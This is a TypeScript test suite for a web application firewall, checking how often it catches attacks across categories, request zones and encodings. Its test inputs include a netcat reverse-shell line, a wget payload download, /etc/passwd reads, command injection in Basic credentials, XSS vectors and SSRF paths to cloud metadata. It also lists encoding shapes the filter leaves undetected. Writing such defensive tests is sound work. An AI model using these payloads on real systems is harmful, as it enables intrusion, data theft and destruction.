// Every category in every zone and encoding, as WAF bypass suites measure a WAF
// (test/support/variants/zones.ts): the payload generators of each category, through an encoder
// (plain, URL, double URL, base64, JS \u escapes, character references, mixed case, full-width,
// overlong UTF-8), in a query argument, the path, a form, JSON, a multipart field or file name, XML,
// SOAP, Cookie, Referer, User-Agent, a custom X- header or Authorization. Each row states the hit
// rate its in-scope cells reach together and the floor no cell may fall under; inScope() says which
// cells are attacks on a backend at all, and why the others are not.
import { expect, it } from "vitest";
import { describeFamily } from "../support/variants/check.js";
import { hitRate } from "../support/variants/rate.js";
import { inspect, type Req } from "../support/engine.js";
import { CATEGORIES, ENCODINGS, ZONES, cell, inScope, zoneRequest, type Encoding, type Zone } from "../support/variants/zones.js";

/** Requests per cell (each cell draws its own payloads: its own seed); base64 has one cell in scope, Basic credentials. */
const RUNS = 5;
const runsOf = (e: string) => (e === "base64" ? 30 : RUNS);
const SEED = 20261128;

/**
 * Per category: the hit rate its in-scope cells reach together, and the lowest rate of one zone (over
 * its encodings) or one encoding (over its zones): a zone or an encoding the engine does not read
 * shows there, a payload the generator draws once does not. The misses these rates tolerate are named in
 * LEFT_ALONE below: any other miss fails the test.
 */
const ROWS: Record<string, { atLeast: number; floor: number }> = {
  sqli: { atLeast: 1, floor: 1 },
  xss: { atLeast: 0.99, floor: 0.9 },
  rce: { atLeast: 0.98, floor: 0.85 },
  lfi: { atLeast: 0.98, floor: 0.9 },
  rfi: { atLeast: 0.9, floor: 0.7 },
  ssrf: { atLeast: 0.93, floor: 0.5 },
  ssti: { atLeast: 1, floor: 1 },
  java: { atLeast: 0.98, floor: 0.9 },
  php: { atLeast: 0.98, floor: 0.9 },
  nodejs: { atLeast: 1, floor: 1 },
  ldap: { atLeast: 0.97, floor: 0.85 },
  nosql: { atLeast: 0.99, floor: 0.9 },
  xxe: { atLeast: 1, floor: 1 },
};

/**
 * What the application could see of a request: the path, header values (Basic credentials decoded) and
 * the body, with percent escapes (`%XX`, IIS's `%uXXXX`, overlong `%C0%XX`) undone until nothing changes
 * and full-width forms folded (NFKC). `\u` escapes are left as they are.
 */
function seen(req: Req): string {
  const basic = (v: string) => (/^Basic /i.test(v) ? Buffer.from(v.slice(6), "base64").toString("utf8") : v);
  let s = [req.path ?? "", ...(req.headers ?? []).map(([, v]) => basic(v)), typeof req.body === "string" ? req.body : ""].join("\n");
  for (let k = 0; k < 4; k++) {
    const d = s
      .replace(/%u([0-9a-f]{4})/gi, (_, x) => String.fromCharCode(parseInt(x, 16)))
      .replace(/%c([01])%([89ab][0-9a-f])/gi, (_, a, b) => String.fromCharCode(((Number(a) & 1) << 6) | (parseInt(b, 16) & 0x3f)))
      .replace(/(%[0-9a-f]{2})+/gi, (m) => {
        try {
          return decodeURIComponent(m);
        } catch {
          return m;
        }
      });
    if (d === s) break;
    s = d;
  }
  return s.normalize("NFKC");
}
/** \\u escapes and numeric character references undone (JSON's and XML's own escapes). */
const unescaped = (s: string) => s.replace(/\\u([0-9a-f]{4})|&#x([0-9a-f]+);|&#([0-9]+);/gi, (_, u, x, d) => String.fromCodePoint(parseInt(u ?? x ?? d, u || x ? 16 : 10)));
const basicUser = (req: Req) => {
  const v = req.headers?.find(([n]) => n === "authorization")?.[1] ?? "";
  return /^Basic /i.test(v) ? Buffer.from(v.slice(6), "base64").toString("utf8") : "";
};
/** An XML body's text and attribute values, its own markup left out (the payload's `<` came escaped). */
const xmlTextOf = (req: Req) =>
  (typeof req.body === "string" ? req.body : "").replace(/<[^<>]*>/g, (m) => ` ${[...m.matchAll(/="([^"]*)"/g)].map((a) => a[1]).join(" ")} `).replace(/&(lt|gt|quot|apos|amp);/g, (_, n) => ({ lt: "<", gt: ">", quot: '"', apos: "'", amp: "&" })[n as string]!);
const wire = (req: Req) => [req.path ?? "", ...(req.headers ?? []).map(([, v]) => v), typeof req.body === "string" ? req.body : ""].join("\n");

/**
 * The misses this matrix leaves alone, one shape each, with why: a miss in a cell outside these fails
 * the test whatever the floors say (scripts/probe-seeds.ts counts these apart from the others).
 */
const LEFT_ALONE: { shape: string; why: string; is: (c: string, z: Zone, e: Encoding, req: Req) => boolean }[] = [
  {
    shape: "the payload's own percent escape under an overlong `%` (`%C0%A5252f`, `%C0%A53c`, `%C0%A500`)",
    why: "three layers: URL decoding, then a lenient UTF-8 decoder folding the overlong `%`, then the payload's escape decoded once more; no server does all three",
    is: (_c, _z, e, req) => e === "overlong" && /%C0%A5[0-9a-fu]/i.test(wire(req)),
  },
  {
    shape: "the payload's own percent escape in full-width forms (`％００`, `．％２ｅ／`)",
    why: "NFKC folds `％００` to the three characters `%00`, not to a NUL or a dot: it would take a second URL decoding after the fold",
    is: (_c, _z, e, req) => e === "fullwidth" && /\uFF05[\uFF10-\uFF19\uFF21-\uFF26\uFF41-\uFF46]{2}/.test(decodeURIComponent(wire(req).replace(/%(?![0-9a-f]{2})/gi, "%25"))),
  },
  {
    shape: "XSS: \\u escapes or character references over a vector that has escapes of its own (`\\u005cx3c`, `\\u005cu003c`, `\\u00253c`, `&#x25;3c`)",
    why: "a script string or an attribute decodes one layer: `\\u005cx3c` is the text `\\x3c`, `\\u00253c` the text `%3c`, which only a second decoding turns into `<`",
    is: (c, _z, e, req) =>
      c === "xss" && ((e === "js-unicode" && /\\u00(5c[xu]|25[0-9a-f]{2})/i.test(seen(req))) || (e === "html-entity" && /&#x(5c;[xu]|25;[0-9a-f]{2})/i.test(seen(req)))),
  },
  {
    shape: "XSS: a script-string breakout written in \\u escapes (`\\u0027\\u003bprint\\u0028\\u0029`)",
    why: "inside a JavaScript string `\\u0027` is a quote character of the string, not its end: nothing breaks out",
    is: (c, _z, e, req) => c === "xss" && e === "js-unicode" && /\\u00(27|22)\\+u00(3b|2d|2b)|\\u005c\\+u0027/i.test(seen(req)),
  },
  {
    shape: "XSS: a script-string breakout with no HTML in mixed case (`'-NEw IMage().SRc=...`)",
    why: "HTML names fold case, JavaScript's do not: `NEw IMage()` is no code, and a string breakout has no tag or attribute to fall back on",
    is: (c, z, e, req) => c === "xss" && e === "mixed-case" && !/<|script:|\bon[a-z]+\s*=/i.test(z === "xml" || z === "soap" || z === "xml-attr" ? xmlTextOf(req) : seen(req).replace(/^[^\n]*\n/, "")),
  },
  {
    shape: "RFI: an include URL in a parameter not named for a file (the zones use q, id, data, search, value) or in no parameter",
    why: "an include URL counts only where the application takes a file name: elsewhere a URL is ordinary data",
    is: (c, z, _e, req) => c === "rfi" && !(z === "path" && /^\/files\/\\\\/.test(seen(req))) && /[a-z][a-z0-9+.-]*:\/\//i.test(unescaped(seen(req))),
  },
  {
    shape: "RFI: a UNC path after a path segment (`/files/\\\\host\\share`)",
    why: "a path's segments are the service's own: `\\\\host` after `/files/` is not read as a share",
    is: (c, z, _e, req) => c === "rfi" && z === "path" && /^\/files\/\\\\/.test(seen(req)),
  },
  {
    shape: "SSRF: a scheme-relative or scheme-less URL after a path segment (`/files///169.254.169.254/`)",
    why: "after a path segment `//host` reads as an empty segment then a path, not as a URL to fetch (a path with a scheme is still blocked: see below)",
    is: (c, z, _e, req) => c === "ssrf" && z === "path" && /^\/files\/(\/\/|[^/:]*[@.][^/]*\/)/.test(seen(req)),
  },
  {
    shape: "PHP: a serialised object whose `O:` mixed case lowered (`o:15:\"mOnolOG\\HAnDler\"`)",
    why: "`o:` is unserialize()'s legacy form, which makes a stdClass whatever name follows: no gadget class is loaded, no magic method runs",
    is: (c, _z, e, req) => c === "php" && e === "mixed-case" && /\bo:\d+:(\\*"|&quot;)/.test(seen(req)) && !/\bO:\d+:(\\*"|&quot;)/.test(seen(req)),
  },
  {
    shape: "PHP: a stream wrapper URL after a browser's products in a User-Agent (`... Safari/537.36 expect://id`)",
    why: "no backend opens a User-Agent as a file: inScope() leaves file paths (lfi) and remote URLs (rfi) there out for the same reason",
    is: (c, z, _e, req) => c === "php" && z === "user-agent-tail" && /Safari\/[\d.]+ [a-z][a-z0-9+.-]*:\/\//i.test(seen(req)),
  },
  {
    shape: "LDAP: `*))%00` where nothing decodes the `%00`: the user name of Basic credentials, a raw or text/plain body",
    why: "the `%00` stays three characters and cuts no filter, so `*))` leaves it unbalanced (in Basic credentials `:secret` is glued after it too)",
    is: (c, z, e, req) =>
      c === "ldap" &&
      ((z === "authorization" && e === "base64" && /%00:secret$/.test(basicUser(req))) || ((z === "body-raw" || z === "body-text") && /\*\)+%00$/.test(typeof req.body === "string" ? req.body : ""))),
  },
];
const leftAlone = (c: string, z: Zone, e: Encoding, req: Req) => LEFT_ALONE.some((x) => x.is(c, z, e, req));

describeFamily("category x zone x encoding matrix", {}, (h) => {
  it.each(Object.keys(CATEGORIES))("%s: every zone and every encoding in scope", (category) => {
    const { atLeast, floor } = ROWS[category];
    const unexplained: string[] = [];
    const groups = new Map<string, { hits: number; total: number; miss?: unknown }>();
    const add = (key: string, r: { hits: number; total: number; misses: unknown[] }) => {
      const g = groups.get(key) ?? { hits: 0, total: 0 };
      g.hits += r.hits;
      g.total += r.total;
      g.miss ??= r.misses[0];
      groups.set(key, g);
    };
    ZONES.forEach((z, i) =>
      ENCODINGS.forEach((e, j) => {
        if (!inScope(category, z, e)) return;
        const r = hitRate(h(), cell(category, z, e), runsOf(e), SEED + i * 16 + j);
        unexplained.push(...r.misses.filter((m) => !leftAlone(category, z, e, m)).map((m) => `${z}/${e} ${JSON.stringify(m).slice(0, 300)}`));
        add("all", r);
        add(`zone ${z}`, r);
        add(`encoding ${e}`, r);
      }),
    );
    expect(unexplained, "misses outside the shapes left alone").toEqual([]);
    const weak = [...groups].filter(([k, g]) => k !== "all" && g.hits < floor * g.total).map(([k, g]) => `${k} ${g.hits}/${g.total}: ${JSON.stringify(g.miss)}`);
    expect(weak, "zones or encodings under the floor").toEqual([]);
    const all = groups.get("all")!;
    expect(all.hits / all.total).toBeGreaterThanOrEqual(atLeast);
  });

  // A line break cannot be sent on one line: it goes as a tab (still a break in a `javascript:` scheme), and
  // a command whose separator was the break is not drawn there (on one line it runs nothing: `admin i$()d &`).
  it("writes a line break in a header or file name as a tab", () => {
    for (const z of ["user-agent", "user-agent-tail", "x-header"] as const) {
      const req = zoneRequest("<a href=\"java\nscript:alert(1)\">x</a>", z, "plain");
      expect(JSON.stringify(req.headers), z).toContain("java\\tscript:");
      expect(inspect(h(), req).score, z).toBeGreaterThanOrEqual(5);
    }
  });

  it("covers every zone and encoding with in-scope cells", () => {
    const cats = Object.keys(CATEGORIES);
    expect(ZONES.filter((z) => !ENCODINGS.some((e) => cats.some((c) => inScope(c, z, e))))).toEqual([]);
    expect(ENCODINGS.filter((e) => !ZONES.some((z) => cats.some((c) => inScope(c, z, e))))).toEqual([]);
  });

  // The credentials of Authorization are read without their scheme: ordinary ones still pass.
  it.each([
    "Bearer ya29.a0AfH6SMBx-k3Fq_9ZtLw",
    "Basic dXNlcjpwQHNzdzByZCE=", // user:p@ssw0rd!
    "Basic am9obi5kb2VAZXhhbXBsZS5jb206Q29ycmVjdCBIb3JzZSBCYXR0ZXJ5IFN0YXBsZQ==", // an e-mail and a pass phrase
    "Digest username=\"Mufasa\", realm=\"testrealm@host.com\", nonce=\"dcd98b7102dd2f0e8b11d0f600bfb0c093\", uri=\"/dir/index.html\", qop=auth, nc=00000001, cnonce=\"0a4f113b\", response=\"6629fae49393a05397450978507c4ef1\"",
    "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
    "token ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "SharedKey myaccount:ctzMq410TV3wS7upTBcunJTDLEJwMAZuFPfr0mrrA08=",
  ])("passes Authorization: %s", (v) => {
    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeLessThan(5);
  });

  // Basic credentials are decoded; a form feed in them is HTML's blank, not binary.
  it.each(['"\fonkeydown=self[`alert`](1) autofocus x=\'', "<svg\fonload=alert(1)>"])("blocks Basic credentials whose user name is %j", (user) => {
    const v = `Basic ${Buffer.from(`${user}:secret`).toString("base64")}`;
    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeGreaterThanOrEqual(5);
  });
  // The server splits Basic credentials at the first colon: each part is read alone, the user name without `:secret`.
  it.each(["1;shutdown", "-1;SHUTDOWN", "a;id", "x|hostname", "$(id)"])("blocks Basic credentials whose user name is %j", (user) => {
    const v = `Basic ${Buffer.from(`${user}:secret`).toString("base64")}`;
    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeGreaterThanOrEqual(5);
  });
  it.each(["svc-build:Tr0ub4dor&3;x", "o'brien:s3cr3t!;id=2", "admin:pa$$(w0rd)", "deploy:a|b;c", "jane:hostname"])("passes Basic credentials %j", (pair) => {
    const v = `Basic ${Buffer.from(pair).toString("base64")}`;
    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeLessThan(5);
  });
  it("passes Basic credentials with a form feed in a pass phrase", () => {
    const v = `Basic ${Buffer.from("jane.doe:page\fbreak on=purpose (x)").toString("base64")}`;
    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeLessThan(5);
  });

  // A User-Agent's products and comments are no command line; what follows where they stop is read.
  it.each([
    "curl/8.5.0 | nc -e /bin/sh 10.0.0.1 4444", "python-requests/2.31.0 $(id)", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/124.0 ; cat /etc/passwd",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 x&c^m^d /c dir", "Wget/1.21 `wget http://203.0.113.7/x -O /tmp/x`",
  ])("blocks User-Agent: %s", (v) => {
    expect(inspect(h(), { path: "/", headers: [["host", "svc.local"], ["user-agent", v]] }).score).toBeGreaterThanOrEqual(5);
  });
  it.each([
    "Mozilla/5.0 (Linux; Android 12; moto g(60)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 9; SM-G960F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/74.0.3729.157 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/222.0.0.48.113;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 302.0.0.23.114 (iPhone14,2; iOS 16_6; en_US; en; scale=3.00; 1170x2532; 517147011)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 | MyCompany Monitor",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36; cat-lover edition",
    "aws-sdk-java/1.12.500 Linux/5.10.192 OpenJDK_64-Bit_Server_VM/17.0.8+7-LTS java/17.0.8 vendor/Amazon.com_Inc. cfg/retry-mode/standard",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/115.0 id",
  ])("passes User-Agent: %s", (v) => {
    expect(inspect(h(), { path: "/", headers: [["host", "svc.local"], ["user-agent", v]] }).score).toBeLessThan(5);
  });

  // A path is the service's own, but a proxy or image route fetches a URL written in it.
  it.each(["/files/dict://169.254.169.254:11211/stats", "/img/fetch/gopher://10.0.0.5:6379/_FLUSHALL", "/p/http://metadata.google.internal/computeMetadata/v1/"])("blocks the path %s", (path) => {
    expect(inspect(h(), { path, headers: [["host", "svc.local"]] }).score).toBeGreaterThanOrEqual(5);
  });
});
